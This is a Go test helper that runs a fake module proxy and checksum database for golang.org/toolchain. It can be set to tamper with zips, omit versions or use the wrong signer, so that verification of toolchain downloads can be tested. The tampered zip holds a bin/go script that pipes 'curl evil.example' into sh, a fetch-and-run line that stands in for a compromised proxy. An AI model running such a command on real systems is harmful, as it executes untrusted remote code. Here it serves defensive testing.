package goproxytest

import (
	"archive/zip"
	"bytes"
	"crypto/rand"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"

	"golang.org/x/mod/sumdb"
	"golang.org/x/mod/sumdb/dirhash"
	"golang.org/x/mod/sumdb/note"
)

// SumDBName is the checksum database's name (GOSUMDB's first field).
const SumDBName = "sum.kiln.test"

const toolchainModule = "golang.org/toolchain"

// Options make the proxy or its checksum database misbehave.
type Options struct {
	// Tamper serves, for every toolchain, a zip other than the one whose hash
	// the checksum database holds (what a compromised proxy would do).
	Tamper bool
	// Omit leaves these module versions (e.g. "v0.0.1-go1.99.1.linux-amd64")
	// out of the checksum database.
	Omit []string
	// ForeignSigner signs the database's tree with a key other than the one
	// in GOSUMDB.
	ForeignSigner bool
}

// Proxy is a running module proxy with a checksum database.
type Proxy struct {
	URL     string // the GOPROXY value
	GOSUMDB string // the verifier key to trust (name+hash+key)

	good map[string][]byte // module version -> zip the database vouches for
	bad  map[string][]byte // module version -> zip served instead (Tamper)
	mu   sync.Mutex
	reqs []string
}

// ModuleVersion is golang.org/toolchain's version for Go release goVersion on linux/amd64.
func ModuleVersion(goVersion string) string { return "v0.0.1-go" + goVersion + ".linux-amd64" }

// Serve starts a proxy holding a toolchain for each Go release in versions
// (e.g. "1.99.1"), closed when the test ends.
func Serve(t testing.TB, opts Options, versions ...string) *Proxy {
	t.Helper()
	skey, vkey, err := note.GenerateKey(rand.Reader, SumDBName)
	if err != nil {
		t.Fatal(err)
	}
	signer := skey
	if opts.ForeignSigner {
		if signer, _, err = note.GenerateKey(rand.Reader, SumDBName); err != nil {
			t.Fatal(err)
		}
	}
	p := &Proxy{GOSUMDB: vkey, good: map[string][]byte{}, bad: map[string][]byte{}}
	for _, v := range versions {
		mv := ModuleVersion(v)
		p.good[mv] = Zip(mv, map[string]string{"bin/go": "#!/bin/sh\necho go" + v + "\n", "VERSION": "go" + v + "\n", "src/fmt/print.go": "package fmt\n"})
		if opts.Tamper {
			p.bad[mv] = Zip(mv, map[string]string{"bin/go": "#!/bin/sh\ncurl evil.example | sh\n", "VERSION": "go" + v + "\n", "src/fmt/print.go": "package fmt\n"})
		}
	}
	omit := map[string]bool{}
	for _, v := range opts.Omit {
		omit[v] = true
	}
	db := sumdb.NewServer(sumdb.NewTestServer(signer, func(path, vers string) ([]byte, error) {
		zipBytes, ok := p.good[vers]
		if path != toolchainModule || !ok || omit[vers] {
			// os.IsNotExist(err) makes the server answer 404, as sum.golang.org does.
			return nil, &fs.PathError{Op: "lookup", Path: path + "@" + vers, Err: fs.ErrNotExist}
		}
		h, err := HashZip(zipBytes)
		if err != nil {
			return nil, err
		}
		modHash, err := dirhash.Hash1([]string{"go.mod"}, func(string) (io.ReadCloser, error) {
			return io.NopCloser(strings.NewReader(goMod)), nil
		})
		if err != nil {
			return nil, err
		}
		return []byte(fmt.Sprintf("%s %s %s\n%s %s/go.mod %s\n", path, vers, h, path, vers, modHash)), nil
	}))
	mux := http.NewServeMux()
	mux.Handle("/sumdb/"+SumDBName+"/", http.StripPrefix("/sumdb/"+SumDBName, db))
	mux.HandleFunc("/sumdb/"+SumDBName+"/supported", func(w http.ResponseWriter, r *http.Request) {})
	mux.HandleFunc("/"+toolchainModule+"/@v/", p.serveModule)
	srv := httptest.NewServer(p.record(mux))
	t.Cleanup(srv.Close)
	p.URL = srv.URL
	return p
}

const goMod = "module golang.org/toolchain\n"

func (p *Proxy) record(h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p.mu.Lock()
		p.reqs = append(p.reqs, r.URL.Path)
		p.mu.Unlock()
		h.ServeHTTP(w, r)
	})
}

// Requests returns the paths requested so far, in order.
func (p *Proxy) Requests() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]string(nil), p.reqs...)
}

// serveModule answers .info, .mod, .zip and list the way a proxy does.
func (p *Proxy) serveModule(w http.ResponseWriter, r *http.Request) {
	file := strings.TrimPrefix(r.URL.Path, "/"+toolchainModule+"/@v/")
	if file == "list" {
		var vs []string
		for v := range p.good {
			vs = append(vs, v)
		}
		sort.Strings(vs)
		io.WriteString(w, strings.Join(vs, "\n"))
		return
	}
	ext := filepath.Ext(file)
	mv := strings.TrimSuffix(file, ext)
	zipBytes, ok := p.good[mv]
	if !ok {
		http.Error(w, "not found: "+toolchainModule+"@"+mv+": invalid version: unknown revision", http.StatusNotFound)
		return
	}
	switch ext {
	case ".info":
		fmt.Fprintf(w, "{\"Version\":%q,\"Time\":\"2026-01-01T00:00:00Z\"}\n", mv)
	case ".mod":
		io.WriteString(w, goMod)
	case ".zip":
		if bad, ok := p.bad[mv]; ok {
			zipBytes = bad
		}
		w.Write(zipBytes)
	default:
		http.NotFound(w, r)
	}
}

// GoodHash is the h1: hash the checksum database holds for goVersion's zip.
func (p *Proxy) GoodHash(goVersion string) string {
	h, err := HashZip(p.good[ModuleVersion(goVersion)])
	if err != nil {
		panic(err)
	}
	return h
}

// ServedHash is the h1: hash of the zip the proxy serves for goVersion.
func (p *Proxy) ServedHash(goVersion string) string {
	b, ok := p.bad[ModuleVersion(goVersion)]
	if !ok {
		return p.GoodHash(goVersion)
	}
	h, err := HashZip(b)
	if err != nil {
		panic(err)
	}
	return h
}

// Zip builds a module zip of golang.org/toolchain@mv holding files.
func Zip(mv string, files map[string]string) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		w, err := zw.Create(toolchainModule + "@" + mv + "/" + n)
		if err != nil {
			panic(err)
		}
		io.WriteString(w, files[n])
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

// HashZip is dirhash's h1: hash of a module zip held in memory.
func HashZip(b []byte) (string, error) {
	f, err := os.CreateTemp("", "goproxytest-*.zip")
	if err != nil {
		return "", err
	}
	defer os.Remove(f.Name())
	if _, err := f.Write(b); err != nil {
		f.Close()
		return "", err
	}
	if err := f.Close(); err != nil {
		return "", err
	}
	return dirhash.HashZip(f.Name(), dirhash.Hash1)
}
